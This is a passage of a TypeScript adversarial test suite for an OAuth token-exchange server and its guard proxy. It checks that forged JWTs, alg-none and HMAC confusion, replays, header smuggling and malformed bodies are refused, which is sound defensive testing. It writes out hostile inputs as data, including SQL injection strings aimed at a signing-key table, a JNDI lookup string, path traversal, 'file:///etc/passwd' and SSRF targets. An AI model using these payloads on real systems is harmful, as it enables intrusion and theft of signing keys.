        for (const scope of subsets) okControl(C.scope, `hop ${i + 1} scope ${scope}`, await exchange(h.agent, { subject_token: h.subject, subject_token_type: AT, ...(scope ? { scope } : {}) }));
      }
      // Audience: only what the requester registered, one at a time.
      const audArb = fc.record({ param: fc.constantFrom('resource', 'audience'), aud: fc.oneof(fc.constantFrom(ORCH, TOOL, API, `${SPEC}/`, SPEC.toUpperCase(), `${SPEC}#x`, `${SPEC}?a=1`, ts.issuer, TRUST_DOMAIN, `${SPEC} ${OTHER}`), fc.webUrl()) })
        .filter((v) => v.aud !== SPEC && v.aud !== OTHER);
      await pool(variants(audArb, 20, seedOf('server audience widening')), 4, async (v) => {
        ledger.attack(C.audienceWidening, 'token endpoint', JSON.stringify(v), oauth(await exchange(orch, { subject_token: t0, subject_token_type: AT, [v.param]: v.aud })), OAUTH('invalid_target'));
      });
      for (const [param, aud] of [['resource', SPEC], ['audience', OTHER], ['resource', OTHER], ['audience', SPEC]] as const) okControl(C.audienceWidening, `${param}=${aud}`, await exchange(orch, { subject_token: t0, subject_token_type: AT, [param]: aud }));
      // Depth: shallow may act one hop deep.
      const t3 = await ex(tool, { subject_token: t2, subject_token_type: AT });
      for (const [name, subject] of [['depth 1', t1], ['depth 2', t2], ['depth 3', t3]] as const) {
        for (const form of [{}, { scope: 's:a' }, { resource: API }] as Record<string, string>[]) {
          const res = await exchange(shallow, { subject_token: subject, subject_token_type: AT, ...form });
          ledger.attack(C.depth, 'token endpoint', `${name} ${JSON.stringify(form)}`, oauth(res), OAUTH('invalid_request'));
          if (res.status === 400 && !/depth/.test(res.body.error_description)) ledger.failures.push(`${C.depth}: refused for another reason: ${res.body.error_description}`);
        }
      }
      okControl(C.depth, 'shallow at depth 1', await exchange(shallow, { subject_token: t0, subject_token_type: AT }));
      noFailures(C.scope, C.audienceWidening, C.depth);
    });

    it('forged, unsigned, HMAC, unknown-kid, injected-kid and mistyped subject tokens and client assertions', async () => {
      const t0 = await cc(frontend);
      const claims = decodeJwt(t0);
      const [h, p] = t0.split('.') as [string, string];
      const subject = (token: string, type = AT) => exchange(orch, { subject_token: token, subject_token_type: type });
      const attempts: [string, string, () => Promise<HttpResult>, RegExp][] = [];
      const grant = OAUTH('invalid_grant');
      for (const [i, c] of [{ scope: 's:a s:b s:c s:d admin' }, { sub: agentId('admin') }, { exp: now() + 86_400 }, { aud: SPEC }].entries()) {
        attempts.push([C.forged, `payload altered ${i}`, () => subject(`${h}.${b64({ ...claims, ...c })}.${t0.split('.')[2]}`), grant]);
      }
      for (const alg of ['EdDSA', 'ES256'] as const) attempts.push([C.forged, `claims re-signed by a foreign ${alg} key under our kid`, async () => subject(await sign(claims, {}, alg, foreign[alg].privateKey)), grant]);
      attempts.push([C.forged, 'claims re-signed by us (never issued)', async () => subject(await sign({ ...claims, jti: randomUUID() })), grant]);
      for (const [i, alg] of ['none', 'None', 'NONE'].entries()) attempts.push([C.none, `alg ${alg}`, () => subject(`${b64({ alg, typ: 'at+jwt', kid: signers.EdDSA.kid })}.${p}.${i ? 'AAAA' : ''}`), grant]);
      const ed = jwks.keys.find((k) => k.kid === signers.EdDSA.kid)!;
      for (const alg of ['HS256', 'HS512']) {
        attempts.push([C.hmac, `${alg} with the public key`, async () => {
          const head = b64({ alg, kid: ed.kid, typ: 'at+jwt' });
          return subject(`${head}.${p}.${createHmac(`sha${alg.slice(2)}`, Buffer.from(ed.x!, 'base64url')).update(`${head}.${p}`).digest('base64url')}`);
        }, grant]);
      }
      for (const kid of ['made-up', signers.EdDSA.kid.slice(2), 'x'.repeat(200)]) attempts.push([C.kid, `kid ${kid.slice(0, 20)}`, async () => subject(await sign(claims, { kid }, 'EdDSA', foreign.EdDSA.privateKey)), grant]);
      for (const kid of KID_INJECTIONS_SERVER) attempts.push([C.kidInjection, `subject kid ${JSON.stringify(kid)}`, async () => subject(await sign(claims, { kid }, 'EdDSA', foreign.EdDSA.privateKey)), grant]);
      for (const kid of KID_INJECTIONS_SERVER.slice(0, 8)) {
        attempts.push([C.kidInjection, `client assertion kid ${JSON.stringify(kid)}`, async () => {
          const assertion = await new SignJWT({ iss: PK, sub: PK, aud: `${ts.issuer}/token`, jti: randomUUID(), exp: now() + 60 }).setProtectedHeader({ alg: 'EdDSA', kid }).sign(foreign.EdDSA.privateKey);
          return postForm(`${ts.url}/token`, { grant_type: 'client_credentials', client_id: PK, client_assertion_type: CLIENT_ASSERTION_TYPE, client_assertion: assertion });
        }, OAUTH('invalid_client')]);
      }
      // typ confusion: each of our token types presented as another.
      const txn = await ex(orch, { subject_token: t0, subject_token_type: AT, requested_token_type: TXN, audience: TRUST_DOMAIN, scope: 's:a' });
      const orchWit = await witByJoinToken(ts, W, witKey);
      const biscuit = await ex(orch, { subject_token: t0, subject_token_type: AT, requested_token_type: BISCUIT_TOKEN_TYPE, scope: 's:a' });
      const wptToken = await wpt(wit, witKey, `${ts.issuer}/token`);
      const jwtGrant = await sign({ ...claims, aud: 'https://as.partner.example', jti: randomUUID() }, { typ: 'JWT' });
      const mistyped: [string, string, string][] = [
        ['Txn-Token as access_token', txn, AT], ['Txn-Token as jwt', txn, JWT], ['access token as txn_token', t0, TXN], ['WIT as access_token', orchWit, AT], ['WIT as jwt', orchWit, JWT],
        ['WPT as access_token', wptToken, AT], ['JWT grant as access_token', jwtGrant, AT], ['JWT grant as txn_token', jwtGrant, TXN], ['Biscuit as access_token', biscuit, AT],
        ['access token as Biscuit', t0, BISCUIT_TOKEN_TYPE], ['Txn-Token as Biscuit', txn, BISCUIT_TOKEN_TYPE],
      ];
      for (const [what, token, type] of mistyped) {
        attempts.push([C.typ, what, () => exchange(orch, { subject_token: token, subject_token_type: type, ...(type === TXN ? { requested_token_type: TXN, audience: TRUST_DOMAIN, scope: 's:a' } : type === BISCUIT_TOKEN_TYPE ? { requested_token_type: BISCUIT_TOKEN_TYPE } : {}) }), OAUTH('invalid_grant', 'invalid_request')]);
      }
      const own = await cc(orch);
      attempts.push([C.typ, 'access token as a WIT actor token', () => exchange(orch, { subject_token: t0, subject_token_type: AT, actor_token: own, actor_token_type: JWT }), OAUTH('invalid_grant')]);
      attempts.push([C.typ, 'Txn-Token as an actor token', () => exchange(orch, { subject_token: t0, subject_token_type: AT, actor_token: txn, actor_token_type: AT }), OAUTH('invalid_grant')]);
      await pool(attempts, 4, async ([cat, what, send, expected]) => ledger.attack(cat, 'token endpoint', what, oauth(await send()), expected));
      // Controls: the genuine tokens, each under its own type.
      okControl(C.typ, 'access token as access_token', await subject(t0));
      okControl(C.typ, 'access token as jwt', await subject(t0, JWT));
      okControl(C.typ, 'Txn-Token replaced', await exchange(spec, { subject_token: txn, subject_token_type: TXN, requested_token_type: TXN, audience: TRUST_DOMAIN, scope: 's:a' }));
      const assertion = await new SignJWT({ iss: PK, sub: PK, aud: `${ts.issuer}/token`, jti: randomUUID(), exp: now() + 60 }).setProtectedHeader({ alg: 'EdDSA', kid: 'pk-1' }).sign(pkKey.privateKey);
      okControl(C.kidInjection, 'client assertion by the registered key', await postForm(`${ts.url}/token`, { grant_type: 'client_credentials', client_id: PK, client_assertion_type: CLIENT_ASSERTION_TYPE, client_assertion: assertion }));
      expect(await ts.server.db.knex('signing_keys').count({ n: '*' }).first()).toMatchObject({ n: expect.anything() });
      noFailuresIn('');
    });

    it(`${C.replay}, and proofs by another key, at the token endpoint and POST /wit`, async () => {
      const items = Array.from({ length: 8 }, (_, i) => i);
      for (const i of items) {
        const form = { grant_type: 'client_credentials', client_id: W, ...(i % 2 ? { scope: 's:a' } : {}), ...(i % 4 > 1 ? { resource: API } : {}) };
        const headers = { 'workload-identity-token': wit, 'workload-proof-token': await wpt(wit, witKey, `${ts.issuer}/token`) };
        okControl(C.replay, `WPT first use ${i}`, await postForm(`${ts.url}/token`, form, headers));
        ledger.attack(C.replay, 'token endpoint', `WPT replayed ${i}`, oauth(await postForm(`${ts.url}/token`, form, headers)), OAUTH('invalid_client'));
        const assertion = await new SignJWT({ iss: PK, sub: PK, aud: i % 2 ? `${ts.issuer}/token` : ts.issuer, jti: randomUUID(), exp: now() + 60 + i }).setProtectedHeader({ alg: 'EdDSA', kid: 'pk-1' }).sign(pkKey.privateKey);
        const aform = { grant_type: 'client_credentials', client_id: PK, client_assertion_type: CLIENT_ASSERTION_TYPE, client_assertion: assertion };
        okControl(C.replay, `client assertion first use ${i}`, await postForm(`${ts.url}/token`, aform));
        ledger.attack(C.replay, 'token endpoint', `client assertion replayed ${i}`, oauth(await postForm(`${ts.url}/token`, aform)), OAUTH('invalid_client'));
        const jt = (await ts.admin('POST', `/admin/agents/${enc(W)}/join-tokens`)).body.join_token as string;
        const key = await newAgentKey(i % 2 ? 'ES256' : 'EdDSA');
        const body = { agent_id: W, jwk: key.jwk, attestation: { type: 'join_token', token: jt } };
        okControl(C.replay, `join token first use ${i}`, await postJson(`${ts.url}/wit`, body));
        ledger.attack(C.replay, 'POST /wit', `join token replayed ${i}`, oauth(await postJson(`${ts.url}/wit`, { ...body, jwk: (await newAgentKey()).jwk })), OAUTH('invalid_grant'));
        // A WPT signed by another key than the WIT's.
        const stranger = await newAgentKey(i % 2 ? 'ES256' : 'EdDSA');
        const other = i % 2 ? { ...stranger, alg: witKey.alg } : stranger;
        ledger.attack(C.bound, 'token endpoint', `WPT by another key ${i}`, oauth(await postForm(`${ts.url}/token`, form, { 'workload-identity-token': wit, 'workload-proof-token': await wpt(wit, i % 2 ? (await newAgentKey(witKey.alg)) : other, `${ts.issuer}/token`) })), OAUTH('invalid_client'));
      }
      noFailures(C.replay, C.bound);
    });

    it(`${C.revoked} and ${C.disabled}`, async () => {
      for (let round = 0; round < 3; round++) {
        const t0 = await cc(frontend);
        const t1 = await ex(orch, { subject_token: t0, subject_token_type: AT, scope: 's:a' });
        const t2 = await ex(spec, { subject_token: t1, subject_token_type: AT });
        const [victimToken, revoker] = round === 1 ? [t1, orch] : [t0, frontend];
        expect((await postForm(`${ts.url}/token/revocation`, { token: victimToken }, revoker.auth)).status).toBe(200);
        for (const [what, agent, subject] of [['hop 1 from revoked', orch, t0], ['hop 2 under revoked', spec, t1], ['hop 3 under revoked', tool, t2]] as const) {
          if (round === 1 && what === 'hop 1 from revoked') continue;
          const res = await exchange(agent, { subject_token: subject, subject_token_type: AT });
          ledger.attack(C.revoked, 'token endpoint', `round ${round} ${what}`, oauth(res), OAUTH('invalid_grant'));
        }
        if (round === 2) {
          const biscuit = await ex(orch, { subject_token: await cc(frontend), subject_token_type: AT, requested_token_type: BISCUIT_TOKEN_TYPE, scope: 's:a' });
          const delegated = await ex(orch, { subject_token: biscuit, subject_token_type: BISCUIT_TOKEN_TYPE, requested_token_type: BISCUIT_TOKEN_TYPE, actor_token: await cc(spec), actor_token_type: AT, context: 'look it up' });
          expect((await postForm(`${ts.url}/token/revocation`, { token: biscuit }, orch.auth)).status).toBe(200);
          ledger.attack(C.revoked, 'token endpoint', 'Biscuit delegated from a revoked one', oauth(await exchange(spec, { subject_token: delegated, subject_token_type: BISCUIT_TOKEN_TYPE, requested_token_type: BISCUIT_TOKEN_TYPE, actor_token: await cc(tool), actor_token_type: AT, context: 'go on' })), OAUTH('invalid_grant'));
        }
      }
      // A disabled agent: its credentials, its tokens, its WIT.
      const before = await cc(victim);
      const wv = await witByJoinToken(ts, WV, witKey);
      expect((await ts.admin('DELETE', `/admin/agents/${enc(victim.id)}`)).status).toBe(200);
      expect((await ts.admin('DELETE', `/admin/agents/${enc(WV)}`)).status).toBe(200);
      for (const form of [{}, { scope: 's:a' }, { resource: ORCH }] as Record<string, string>[]) ledger.attack(C.disabled, 'token endpoint', `client credentials ${JSON.stringify(form)}`, oauth(await victim.token({ grant_type: 'client_credentials', ...form })), OAUTH('invalid_client'));
      ledger.attack(C.disabled, 'token endpoint', 'client_secret_post', oauth(await postForm(`${ts.url}/token`, { grant_type: 'client_credentials', client_id: victim.id, client_secret: victim.secret })), OAUTH('invalid_client'));
      for (const type of [AT, JWT]) ledger.attack(C.disabled, 'token endpoint', `its token as subject (${type})`, oauth(await exchange(orch, { subject_token: before, subject_token_type: type })), OAUTH('invalid_grant'));
      const intro = await postForm(`${ts.url}/token/introspection`, { token: before }, tool.auth);
      ledger.attack(C.disabled, 'introspection', 'its token introspected', intro.status === 200 && JSON.stringify(intro.body) === '{"active":false}' ? { refused: true, by: 'active: false (200)' } : { refused: false, detail: JSON.stringify(intro.body) }, /^active: false \(200\)$/);
      for (const i of [0, 1]) {
        ledger.attack(C.disabled, 'token endpoint', `its WIT + WPT ${i}`, oauth(await postForm(`${ts.url}/token`, { grant_type: 'client_credentials', client_id: WV, ...(i ? { scope: 's:a' } : {}) }, { 'workload-identity-token': wv, 'workload-proof-token': await wpt(wv, witKey, `${ts.issuer}/token`) })), OAUTH('invalid_client'));
      }
      okControl(C.disabled, 'an active agent', await tool.token({ grant_type: 'client_credentials' }));
      noFailures(C.revoked, C.disabled);
    });

    it('Biscuits through the token endpoint: budget raise, widening, empty context, not the current delegate', async () => {
      const t0 = await cc(frontend);
      const mintB = (form: Record<string, string>) => exchange(orch, { subject_token: t0, subject_token_type: AT, requested_token_type: BISCUIT_TOKEN_TYPE, scope: 's:a s:b', ...form });
      for (const budget of ['5001', '100000', '999999999999999', '1e9', '-1', '5000.5', '0x1400']) ledger.attack(C.budget, 'token endpoint', `mint budget ${budget}`, oauth(await mintB({ budget })), OAUTH('invalid_request'));
      const minted = await mintB({ budget: '3000' });
      okControl(C.budget, 'mint budget 3000', minted);
      for (const budget of ['0', '5000', '1']) okControl(C.budget, `mint budget ${budget}`, await mintB({ budget }));
      const held = minted.body.access_token as string;
      const specToken = await cc(spec);
      const hand = (form: Record<string, string>, as: SecretAgent = orch, actor = specToken) => exchange(as, { subject_token: held, subject_token_type: BISCUIT_TOKEN_TYPE, requested_token_type: BISCUIT_TOKEN_TYPE, actor_token: actor, actor_token_type: AT, context: 'find the order', ...form });
      for (const budget of ['3001', '5000', '4000']) ledger.attack(C.budget, 'token endpoint', `delegation budget ${budget}`, oauth(await hand({ budget })), OAUTH('invalid_request'));
      for (const scope of ['s:c', 's:a s:c', 's:d']) ledger.attack(C.scope, 'token endpoint', `Biscuit delegation scope ${scope}`, oauth(await hand({ scope })), OAUTH('invalid_scope'));
      for (const audience of [ORCH, TOOL, 'https://evil.example']) ledger.attack(C.audienceWidening, 'token endpoint', `Biscuit delegation audience ${audience}`, oauth(await hand({ audience })), OAUTH('invalid_target'));
      for (const context of ['', ' ', '\t\n', '\u00a0']) ledger.attack(C.context, 'token endpoint', `Biscuit delegation context ${JSON.stringify(context)}`, oauth(await hand({ context })), OAUTH('invalid_request'));
      ledger.attack(C.context, 'token endpoint', 'Biscuit delegation without context', oauth(await exchange(orch, { subject_token: held, subject_token_type: BISCUIT_TOKEN_TYPE, requested_token_type: BISCUIT_TOKEN_TYPE, actor_token: specToken, actor_token_type: AT })), OAUTH('invalid_request'));
      for (const as of [spec, tool]) ledger.attack(C.delegator, 'token endpoint', `delegation by ${as.id}, not the current delegate`, oauth(await hand({}, as, as === spec ? await cc(tool) : specToken)), OAUTH('invalid_grant'));
      for (const [i, form] of ([{}, { budget: '100' }, { scope: 's:a' }, { budget: '3000', scope: 's:a s:b' }] as Record<string, string>[]).entries()) okControl(C.delegator, `delegation ${i}`, await hand(form));
      noFailures(C.budget, C.scope, C.audienceWidening, C.context, C.delegator);
    });

    it(`${C.form} and ${C.json}`, async () => {
      const port = Number(new URL(ts.url).port);
      const auth = { authorization: orch.auth.authorization };
      const FORM = 'application/x-www-form-urlencoded';
      const bodies: [string, string | Buffer, string][] = [
        ['no grant_type', 'scope=s%3Aa', FORM], ['empty body', '', FORM], ['grant_type twice', 'grant_type=client_credentials&grant_type=client_credentials', FORM],
        ['grant_type twice, different', 'grant_type=client_credentials&grant_type=refresh_token', FORM], ['scope twice', 'grant_type=client_credentials&scope=s%3Aa&scope=s%3Ab', FORM],
        ['resource twice', `grant_type=client_credentials&resource=${enc(SPEC)}&resource=${enc(OTHER)}`, FORM], ['grant_type without value', 'grant_type', FORM], ['grant_type empty', 'grant_type=', FORM],
        ['broken percent-encoding in grant_type', 'grant_type=client%ZZcredentials', FORM], ['truncated percent-encoding', 'grant_type=client_credentials%', FORM], ['overlong UTF-8', 'grant_type=client_credentials%C0%AE', FORM],
        ['NUL in grant_type', 'grant_type=client_credentials%00', FORM], ['JSON body', '{"grant_type":"client_credentials"}', 'application/json'], ['text/plain', 'grant_type=client_credentials', 'text/plain'],
        ['multipart without boundary', 'grant_type=client_credentials', 'multipart/form-data'], ['no content type', 'grant_type=client_credentials', ''], ['binary', Buffer.from([0xff, 0xfe, 0x00, 0x01, 0x3d, 0x26]), FORM],
        ['array syntax', 'grant_type[]=client_credentials', FORM], ['object syntax', 'grant_type[a]=client_credentials', FORM], ['only separators', '&&&=&=&', FORM],
        ['huge body', `grant_type=client_credentials&x=${'a'.repeat(2_000_000)}`, FORM], ['grant type with a space', 'grant_type=client+credentials', FORM],
        ['unknown grant type', 'grant_type=password&username=a&password=b', FORM], ['grant type as a URL', `grant_type=${enc('http://evil.example/grant')}`, FORM],
        ['token exchange missing everything', `grant_type=${enc(TOKEN_EXCHANGE)}`, FORM], ['scope with control characters', 'grant_type=client_credentials&scope=s%3Aa%0d%0aX-Injected%3A1', FORM],
        ['charset latin1 declared', 'grant_type=client_credentials%E9', `${FORM}; charset=latin1`], ['resource not a URI', 'grant_type=client_credentials&resource=not%20a%20uri', FORM],
        ['scope as a JSON array', 'grant_type=client_credentials&scope=%5B%22s%3Aa%22%5D', FORM], ['client_id twice', `grant_type=client_credentials&client_id=${enc(orch.id)}&client_id=${enc(spec.id)}`, FORM],
      ];
      await pool(bodies, 4, async ([what, body, type]) => {
        const headers: Record<string, string> = { ...auth, ...(type ? { 'content-type': type } : {}) };
        const res = await rawRequest(port, { method: 'POST', path: '/token', headers, body });
        ledger.attack(C.form, 'token endpoint', what, httpOutcome(res, { oauth: true }), /^(invalid_request|unsupported_grant_type|invalid_target|invalid_scope|invalid_client|unauthorized_client) \((400|401)\)$|^[a-z_]+ \((413|415)\)$/);
      });
      for (const [i, body] of ['grant_type=client_credentials', 'grant_type=client_credentials&scope=s%3Aa', `grant_type=client_credentials&resource=${enc(OTHER)}`, 'scope=s%3Ab&grant_type=client_credentials', 'grant_type=client_credentials&', 'grant_type=client%5Fcredentials'].entries()) {
        const res = await rawRequest(port, { method: 'POST', path: '/token', headers: { ...auth, 'content-type': i === 3 ? `${FORM}; charset=utf-8` : FORM }, body });
        ledger.control(C.form, `well-formed ${i}`, res.status === 200, `${res.status} ${JSON.stringify(res.body)}`);
      }
      const deep = (n: number, open: string, close: string) => `${open.repeat(n)}${close.repeat(n)}`;
      const jsonBodies: [string, string, string][] = [];
      for (const n of [1_000, 10_000, 100_000, 500_000]) {
        jsonBodies.push([`/wit body nested ${n} arrays`, '/wit', deep(n, '[', ']')]);
        jsonBodies.push([`/wit attestation nested ${n} objects`, '/wit', `{"agent_id":"${W}","attestation":${deep(n, '{"a":', '}').replace(/\{"a":\}/, '{"a":1}')}}`]);
        jsonBodies.push([`/admin/agents body nested ${n}`, '/admin/agents', `{"id":"${agentId('deep')}","scopes":${deep(n, '[', ']')}}`]);
      }
      for (const size of [70_000, 1_100_000, 5_000_000]) {
        jsonBodies.push([`/wit body of ${size} bytes`, '/wit', JSON.stringify({ agent_id: W, attestation: { type: 'join_token', token: 'x'.repeat(size) } })]);
        jsonBodies.push([`/admin/agents body of ${size} bytes`, '/admin/agents', JSON.stringify({ id: agentId('big'), scopes: ['s'.repeat(size)] })]);
      }
      await pool(jsonBodies, 2, async ([what, path, body]) => {
        const res = await rawRequest(port, { method: 'POST', path, headers: { 'content-type': 'application/json', authorization: `Bearer ${'test-admin-token-0123456789abcdef0123456789abcdef'}` }, body });
        ledger.attack(C.json, path === '/wit' ? 'POST /wit' : 'admin API', what, httpOutcome(res), /^[a-z_]+ \((400|413)\)$/);
      });
      // A client assertion signed by the client's registered key, its header or claims nested deeper than the
      // provider's structured clone of them can go (as JSON text: JSON.stringify can't write it either).
      for (const [n, open, close] of [[5_000, '[', ']'], [12_000, '[', ']'], [5_000, '{"a":', '}']] as const) {
        const value = deep(n, open, close).replace('{"a":}', '{"a":1}');
        for (const where of ['header', 'claims'] as const) {
          const header = { alg: 'EdDSA', kid: 'pk-1' };
          const claims = { iss: PK, sub: PK, aud: `${ts.issuer}/token`, jti: randomUUID(), exp: now() + 60 };
          const assertion = signJsonText(
            where === 'header' ? withRawMember(header, 'x', value) : JSON.stringify(header),
            where === 'claims' ? withRawMember(claims, 'x', value) : JSON.stringify(claims),
            pkKey.privateKey,
          );
          const res = await postForm(`${ts.url}/token`, { grant_type: 'client_credentials', client_id: PK, client_assertion_type: CLIENT_ASSERTION_TYPE, client_assertion: assertion });
          ledger.attack(C.json, 'token endpoint', `client assertion ${where} nested ${n} ${open === '[' ? 'arrays' : 'objects'}`, oauth(res), OAUTH('invalid_client'));
        }
      }
      // The server still serves.
      okControl(C.json, 'a token after the JSON attempts', await tool.token({ grant_type: 'client_credentials' }));
      noFailures(C.form, C.json);
    });
  });

  // ---------------------------------------------------------------------------------------------------
  describe('the guard proxy (agent-sts guard) in front of an upstream', () => {
    const RESOURCE = 'https://guarded.adversarial.example/mcp';
    let upstream: Awaited<ReturnType<typeof listen>>;
    let elsewhere: Awaited<ReturnType<typeof listen>>;
    let guard: Server;
    let port: number;
    let caller: SecretAgent;
    const seen = new Map<string, IncomingHttpHeaders>();
    const reachedElsewhere: string[] = [];

    beforeAll(async () => {
      upstream = await listen((req, res) => {
        seen.set(String(req.headers['x-probe']), req.headers);
        res.setHeader('content-type', 'application/json');
        res.end('{"ok":true}');
      });
      elsewhere = await listen((req, res) => {
        reachedElsewhere.push(req.url ?? '');
        res.end('elsewhere');
      });
      guard = createGuardProxy({ upstream: upstream.url, verifier: new Verifier({ issuer: ts.issuer, audience: RESOURCE }), resource: RESOURCE, issuer: ts.issuer, policy: DEFAULT_POLICY, logger: createLogger('silent') });
      port = await listenGuard(guard, 0);
      caller = await registerSecretAgent(ts, { id: agentId('adv-guard-caller'), scopes: ['tool:search', 'tool:read'], audiences: [RESOURCE] });
    });
    afterAll(async () => {
      await closeServer(guard);
      await closeServer(upstream?.server);
      await closeServer(elsewhere?.server);
    });

    it(`${C.smuggle}, ${C.target}, oversize bodies, and valid calls`, async () => {
      const token = (await caller.token({ grant_type: 'client_credentials' })).body.access_token as string;
      const caseOf = (name: string, i: number) => [...name].map((ch, j) => ((i >> (j % 8)) & 1 ? ch.toUpperCase() : ch)).join('');
      const arb = fc.record({ header: fc.constantFrom(...IDENTITY_HEADERS, 'x-agent-sts-admin', 'x-agent-sts-'), casing: fc.nat({ max: 255 }), value: fc.constantFrom(agentId('admin'), 'spiffe://evil/agents/root', 'tool:* admin', '', 'access_token'), twice: fc.boolean(), withToken: fc.boolean() });
      const all = variants(arb, 50, seedOf(C.smuggle), (v) => JSON.stringify([v.header, caseOf(v.header, v.casing), v.value, v.twice, v.withToken]));
      let n = 0;
      for (const v of all) {
        const probe = `smuggle-${n++}`;
        const name = caseOf(v.header, v.casing);
        const headers: Record<string, string | string[]> = { 'x-probe': probe, [name]: v.twice ? [v.value, `${v.value}-2`] : v.value, ...(v.withToken ? { authorization: `Bearer ${token}` } : {}) };
        const res = await rawRequest(port, { path: '/mcp', headers });
        let outcome: Outcome;
        const got = seen.get(probe);
        if (!v.withToken) outcome = got ? { refused: false, detail: 'reached the upstream without a token' } : httpOutcome(res, { challenge: true });
        else if (!got) outcome = { refused: false, detail: `no upstream request: ${res.status}` };
        else {
          const leaked = Object.entries(got).filter(([k, val]) => k.startsWith('x-agent-sts-') && (String(val).includes(v.value) && v.value !== '' && !(k === 'x-agent-sts-subject' && val === caller.id) && !(k === 'x-agent-sts-client' && val === caller.id) && !(k === 'x-agent-sts-token-type' && val === 'access_token')));
          const identityOk = got['x-agent-sts-subject'] === caller.id && got['x-agent-sts-client'] === caller.id && got['x-agent-sts-actors'] === undefined && got.authorization === undefined;
          outcome = !leaked.length && identityOk && !(v.header === 'x-agent-sts-admin' && got['x-agent-sts-admin'] !== undefined) && !(v.header === 'x-agent-sts-' && got['x-agent-sts-'] !== undefined)
            ? { refused: true, by: 'stripped; verified identity forwarded (200)' } : { refused: false, detail: `upstream saw ${JSON.stringify(got)}` };
        }
        ledger.attack(C.smuggle, 'guard proxy', JSON.stringify(v), outcome, /^(stripped; verified identity forwarded \(200\)|invalid_token \(401\))$/);
      }
      const targets: [string, Record<string, string>][] = [
        [`http://127.0.0.1:${elsewhere.port}/steal`, {}], [`https://127.0.0.1:${elsewhere.port}/steal`, {}], [`http://127.0.0.1:${elsewhere.port}`, {}], [`http://[::1]:${elsewhere.port}/x`, {}],
        [`127.0.0.1:${elsewhere.port}`, {}], ['*', {}], ['mcp', {}], ['/mcp', { host: 'a b' }], ['/mcp', { host: '[' }], ['/mcp', { host: 'x:99999' }], ['/mcp', { host: 'evil.example/x' }],
        ['/mcp', { host: 'user@evil.example' }], ['/mcp', { host: '' }], [`http://127.0.0.1:${elsewhere.port}/steal`, { host: 'a' }], ['/mcp', { host: 'evil.example\\x' }], [`file:///etc/passwd`, {}],
      ];
      for (const [i, [path, extra]] of targets.entries()) {
        const res = await rawRequest(port, { path, headers: { authorization: `Bearer ${token}`, 'x-probe': `target-${i}`, ...extra } });
        const outcome = reachedElsewhere.length || seen.has(`target-${i}`) ? { refused: false as const, detail: `forwarded (${res.status})` } : httpOutcome(res, { bodyless: true });
        ledger.attack(C.target, 'guard proxy', `${path} ${JSON.stringify(extra)}`, outcome, /^(invalid_request \(400\)|400)$/);
      }
      for (const [i, size] of [1_048_577, 2_000_000, 8_000_000].entries()) {
        const res = await rawRequest(port, { method: 'POST', path: '/mcp', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'x-probe': `big-${i}` }, body: Buffer.alloc(size, 0x20) });
        ledger.attack(C.json, 'guard proxy', `body of ${size} bytes`, seen.has(`big-${i}`) ? { refused: false, detail: 'forwarded' } : httpOutcome(res), /^invalid_request \(413\)$/);
      }
      for (const [i, depth] of [10_000, 100_000, 1_000_000].entries()) {
        const res = await rawRequest(port, { method: 'POST', path: '/mcp', headers: { 'content-type': 'application/json', 'x-probe': `deep-${i}` }, body: `${'['.repeat(depth)}${']'.repeat(depth)}` });
        ledger.attack(C.json, 'guard proxy', `JSON nested ${depth} deep, no token`, seen.has(`deep-${i}`) ? { refused: false, detail: 'forwarded' } : httpOutcome(res), /^(invalid_token \(401\)|invalid_request \((400|413)\))$/);
      }
      // Controls: valid calls, MCP tool calls in scope, paths that look odd but are paths.
      const paths = ['/mcp', '/', '/a/b/c', '/mcp?x=1', `//127.0.0.1:${elsewhere.port}/still-upstream`, '/%2e%2e/etc', '/mcp#frag'];
      for (let i = 0; i < 40; i++) {
        const probe = `control-${i}`;
        const tool = ['search', 'read'][i % 2]!;
        const body = JSON.stringify({ jsonrpc: '2.0', id: i, method: 'tools/call', params: { name: tool, arguments: {} } });
        const res = await rawRequest(port, { method: i % 3 ? 'POST' : 'GET', path: paths[i % paths.length]!, headers: { authorization: `Bearer ${token}`, 'x-probe': probe, ...(i % 3 ? { 'content-type': 'application/json' } : {}) }, ...(i % 3 ? { body } : {}) });
        ledger.control(C.smuggle, `valid call ${i}`, res.status === 200 && seen.get(probe)?.['x-agent-sts-subject'] === caller.id, `${res.status} ${JSON.stringify(res.body)}`);
      }
      expect(reachedElsewhere).toEqual([]);
      noFailures(C.smuggle, C.target, C.json);
    });
  });

  it('prints the table; every attack was refused the right way and every control accepted', () => {
    const t = ledger.totals();
    console.log(`\nadversarial suite (seed ${SEED}, ${((Date.now() - started) / 1000).toFixed(1)} s)\n${ledger.table()}`);
    expect(ledger.failures, ledger.failures.slice(0, 30).join('\n')).toEqual([]);
    expect(t.refused).toBe(t.attempts);
    expect(t.accepted).toBe(t.controls);
    expect(t.attempts).toBeGreaterThanOrEqual(1000);
    expect(t.controls).toBeGreaterThanOrEqual(1000);
    expect(t.categories).toBeGreaterThanOrEqual(20);
    for (const category of Object.values(C)) expect(ledger.rows.get(category)?.attempts ?? 0, category).toBeGreaterThan(0);
  });
});

const KID_INJECTIONS_SERVER = ['../../../../dev/null', "' OR '1'='1", "'; DROP TABLE signing_keys; --", "') UNION SELECT private_jwk FROM signing_keys --", 'kid\u0000x', '%', '*', 'biscuit-1', 'http://127.0.0.1:1/jwks', '${jndi:ldap://x/a}'];

const createPrivateKeyFromJwk = (jwk: JWK): KeyObject => createPrivateKey({ key: jwk as never, format: 'jwk' });
